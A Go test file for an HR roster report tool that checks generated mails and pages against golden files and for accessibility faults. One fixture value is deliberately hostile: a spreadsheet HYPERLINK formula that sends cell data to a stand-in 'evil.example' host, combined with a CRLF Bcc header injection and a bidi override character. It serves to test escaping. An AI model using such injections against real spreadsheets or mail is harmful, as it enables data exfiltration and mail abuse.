package report_test

import (
	"bytes"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"rollcall/internal/journal"
	"rollcall/internal/notify"
	"rollcall/internal/plan"
	"rollcall/internal/report"
	"rollcall/internal/roster"
	"rollcall/internal/shore"
)

// A state is a story as its mail and its page tell it.
type state struct {
	*story
	options report.MailOptions
}

// states are the six states of a subject, and a reminder.
func states(t *testing.T) map[string]state {
	t.Helper()
	last := yesterday().doc(t)
	beside := report.Beside{
		Last: last,
		Usual: &report.Usual{
			Runs: 10, Rows: plan.Rows{Read: 4812, Added: 4, Updated: 29, Unchanged: 4777, Skipped: 2, Rejected: 1},
			Absent: plan.Absent{Total: 3, Suspended: 3}, ByDate: plan.ByDate{Expired: 1},
		},
		Coming: report.Coming{Expire: 6, ExpireBy: at("2026-12-05T00:00:00+01:00"), Delete: 3, DeleteBy: at("2026-12-05T00:00:00+01:00")},
	}
	all := map[string]state{}
	add := func(name string, s *story, change func(o *report.MailOptions)) {
		o := report.MailOptions{
			Options: report.Options{Zone: warsaw, Beside: beside},
			To:      []string{"hr-it@example.org"}, Owner: "hr-it@example.org", Site: "example.org", Version: "1.0", Host: "rc1",
		}
		var err error
		if o.Notable, err = report.Notable(&s.run, stream(s.changes...)); err != nil {
			t.Fatal(err)
		}
		change(&o)
		all[name] = state{s, o}
	}
	add("ok", clean(), func(*report.MailOptions) {})
	add("warn", dirty(), func(o *report.MailOptions) { o.Attached = true })
	add("held", held(), func(*report.MailOptions) {})
	add("held-reminder", held(), func(o *report.MailOptions) {
		o.Trouble = &report.Trouble{Status: journal.Held, Since: at("2026-11-19T05:30:38+01:00"), Runs: 3, Reminder: 2}
	})
	add("failed", failed(), func(o *report.MailOptions) { o.Coming = report.Coming{} })
	add("missing", missing(), func(o *report.MailOptions) {
		o.Missing = &report.Missing{
			Due: at("2026-11-21T06:00:00+01:00"), Path: "/outgoing/staff_*.csv.gz", LastRows: 4814, Earliest: "05:08", Latest: "05:19", Reached: true,
			Last: journal.Input{Name: "staff_20261120.csv.gz", Modified: at("2026-11-20T05:11:00+01:00")},
			Seen: []string{"2 files that were read before", "staff_20261121.csv.gz.filepart (0 B, 21 Nov 05:13): an upload that broke off?"},
		}
	})
	add("recovered", clean(), func(o *report.MailOptions) {
		o.Trouble = &report.Trouble{Status: journal.Failed, Since: at("2026-11-19T05:30:02+01:00"), Runs: 2, Ended: true}
	})
	people := map[uint64]roster.Who{20412: {Username: "k.wrona", Name: "Karolina Kowalska"}, 19901: {Username: "j.nowak", Name: "Jan Nowak"}}
	add("warn-names", told(report.Names), func(o *report.MailOptions) { o.Attached, o.Personal, o.People = true, report.Names, people })
	add("warn-values", told(report.Values), func(o *report.MailOptions) { o.Attached, o.Personal, o.People = true, report.Values, people })
	return all
}

// told is dirty, of a profile whose reports tell more of people than their keys.
func told(personal report.Personal) *story {
	s := dirty()
	s.changes = s.changes[:4]
	s.run.Facts.Rows.Renamed, s.run.Facts.Rows.Reactivated, s.run.Facts.Rows.Unchanged = 1, 1, 4783
	who := map[roster.Key]roster.Who{
		"100234": {Username: "a.nowak", Name: "Anna Nowak"}, "100235": {Username: "z.król", Name: "Zofia Król"},
		"105120": {Name: "Björk"}, "105121": {Username: "suharto", Name: "Suharto"}, "105122": {Username: "d.levi", Name: "דוד לוי"},
		"o'brien 7": {Username: "m.obrien", Name: "Máire O'Brien"}, "105200": {Username: "m.obrien2"},
		"100301": {Username: "t.zielińska", Name: "Teresa Zielińska-Brzęczyszczykiewicz"}, "104417": {Username: "a.zielińska", Name: "Agata Zielińska"},
	}
	value := map[int]string{
		88: "31.02.2026", 2412: roster.Visible("01\u00a0.13.2026\u202e", roster.MaxShown), 2600: "m.obrien", 2601: "m.obrien2",
		3000: roster.Visible("=HYPERLINK(\"https://evil.example/?\"&A1)\r\nBcc: everybody@example.org <b>"+strings.Repeat("x", 10_000), roster.MaxShown), 4200: roster.Withheld,
	}
	for i := range s.problems {
		x := &s.problems[i]
		x.Who = who[x.Key]
		if personal == report.Values {
			x.Value = value[x.Line]
		}
	}
	return s
}

// missing is a morning without a file.
func missing() *story {
	return with(func(r *journal.Run) {
		r.Number, r.Status, r.AppliedSeq, r.PlanDigest, r.Input, r.Facts, r.Findings = 45, journal.Missing, 0, "", journal.Input{}, plan.Facts{}, nil
		r.Started, r.Finished = at("2026-11-21T06:00:00+01:00"), at("2026-11-21T06:00:01+01:00")
	})
}

func (s state) mail(t *testing.T) notify.Message {
	t.Helper()
	return report.Mail(s.doc(t), s.options)
}

func (s state) page(t *testing.T) string {
	t.Helper()
	d := s.doc(t)
	o := report.PageOptions{Options: s.options.Options, Version: "1.0", Host: "rc1"}
	return text(t, func(b *bytes.Buffer) error { return report.HTML(b, d, stream(s.changes...), o) })
}

func TestTheMailsOfTheStates(t *testing.T) {
	for name, s := range states(t) {
		m := s.mail(t)
		var all strings.Builder
		fmt.Fprintf(&all, "To: %s\nReply-To: %s\nSubject: %s\nMessage-ID: <%s>\nhigh: %t\n", strings.Join(m.To, ", "), m.ReplyTo, m.Subject, m.ID, m.High)
		for _, h := range slices.Sorted(maps.Keys(m.Headers)) {
			fmt.Fprintf(&all, "%s: %s\n", h, m.Headers[h])
		}
		golden(t, "mail-"+name+".txt", all.String()+"\n"+m.Text)
		golden(t, "mail-"+name+".html", m.HTML)
		golden(t, "page-"+name+".html", s.page(t))
	}
}

// Every state is shown on a telephone and on a desk, by day and by night. With
// ROLLCALL_PICTURES=FOLDER in the environment the pictures are kept, to be looked at.
func TestMailsAndPagesAreReadableOnEveryScreen(t *testing.T) {
	b := shore.Chromium(t)
	folder := os.Getenv("ROLLCALL_PICTURES")
	pages := map[string]string{"mail-week": report.Weekly(week(), weekly()).HTML}
	all := states(t)
	all["largest"] = largest(t)
	for name, s := range all {
		pages["mail-"+name], pages["page-"+name] = s.mail(t).HTML, s.page(t)
	}
	for name, page := range pages {
		b.Open(t, page)
		for _, look := range []shore.Look{{Width: 360, Mobile: true}, {Width: 360, Mobile: true, Dark: true}, {Width: 1200}, {Width: 1200, Dark: true}} {
			scheme := "light"
			if look.Dark {
				scheme = "dark"
			}
			if name == "page-largest" && look.Dark == look.Mobile {
				continue // two looks at the longest page are enough
			}
			shown := fmt.Sprintf("%s-%d-%s", name, look.Width, scheme)
			b.Look(t, look)
			found := faults(t, b, look.Width)
			for _, fault := range found[:min(len(found), 5)] {
				t.Errorf("%s: %s", shown, fault)
			}
			if folder != "" && name != "page-largest" {
				if err := os.WriteFile(filepath.Join(folder, shown+".png"), b.Picture(t), 0o644); err != nil {
					t.Fatal(err)
				}
			}
		}
	}
}

// faults are what a machine can see of a page that is hard to read.
func faults(t *testing.T, b *shore.Browser, width int) (all []string) {
	t.Helper()
	b.Eval(t, fmt.Sprintf(look, width), &all)
	for _, url := range b.Outside() {
		all = append(all, "it asks for "+url)
	}
	return append(all, b.Complaints()...)
}

// look computes, in the page, what runs over its edge, what is too small, and
// which text does not stand out from what is behind it (WCAG's contrast, 4.5:1).
const look = `(wide => {
const found = [];
const seen = document.documentElement;
if (seen.scrollWidth > wide) found.push("it is " + seen.scrollWidth + " px wide on " + wide);
const rgb = c => { const m = c.match(/[\d.]+/g).map(Number); return m.length < 4 ? [...m, 1] : m };
const light = c => { const [r, g, b] = c.map(v => (v /= 255) <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4); return 0.2126 * r + 0.7152 * g + 0.0722 * b };
const behind = e => { for (; e; e = e.parentElement) { const c = rgb(getComputedStyle(e).backgroundColor); if (c[3] > 0) return c }
	return matchMedia("(prefers-color-scheme: dark)").matches ? [18, 18, 18] : [255, 255, 255] };
const walk = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
for (let n; n = walk.nextNode();) {
	const e = n.parentElement, style = getComputedStyle(e);
	if (!n.data.trim() || !e.checkVisibility() || e.closest("style")) continue;
	const size = parseFloat(style.fontSize), a = light(rgb(style.color)), b = light(behind(e));
	const contrast = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
	const name = JSON.stringify(n.data.trim().slice(0, 40));
	if (size < 14) found.push(name + " is " + size + " px");
	if (contrast < 4.5) found.push(name + " has a contrast of " + contrast.toFixed(1));
	const box = e.getBoundingClientRect();
	if (box.right > wide + 1 && !e.closest(".scroll")) found.push(name + " ends at " + Math.round(box.right) + " px of " + wide);
}
if (document.querySelectorAll("h1").length != 1) found.push("it has " + document.querySelectorAll("h1").length + " h1");
if (document.documentElement.lang == "") found.push("it has no language");
for (const table of document.querySelectorAll("table:not([role=presentation])"))
	if (!table.caption || ![...table.querySelectorAll("th")].every(h => h.scope)) found.push("a table has no caption, or a heading of it no scope");
if (document.querySelector("script, img, link, iframe, object")) found.push("it has something that mail readers refuse");
return found;
})(%d)`

func TestThePageThatIsHardToReadIsFound(t *testing.T) {
	b := shore.Chromium(t)
	b.Look(t, shore.Look{Width: 360, Mobile: true})
	b.Open(t, `<!DOCTYPE html><meta name="viewport" content="width=device-width"><body style="background:#fff">
<p style="color:#999">pale</p><p style="font-size:9px">small</p><p style="width:900px">wide</p><table><tr><th>bare</th></tr></table><img src="http://127.0.0.1:1/pixel.png">`)
	got := strings.Join(faults(t, b, 360), "\n")
	for _, want := range []string{`"pale" has a contrast of 2.8`, `"small" is 9 px`, "px wide on", "0 h1", "no language", "no caption", "it asks for http://127.0.0.1:1/pixel.png", "mail readers refuse"} {
		if !strings.Contains(got, want) {
			t.Errorf("faults = %s\nwant %s too", got, want)
		}
	}
}
